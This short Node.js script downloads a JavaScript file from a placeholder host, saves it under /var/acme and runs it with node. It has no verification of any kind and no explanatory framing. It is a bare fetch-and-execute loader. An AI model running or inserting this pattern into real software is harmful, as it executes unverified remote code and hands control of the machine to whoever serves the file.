const fs = require("fs");
const { execFile } = require("child_process");

async function start() {
  const place = "/var/acme/tool.js";
  const answer = await fetch("https://a.invalid/tool.js");
  fs.writeFileSync(place, await answer.text());
  execFile("node", [place]);
}

start();
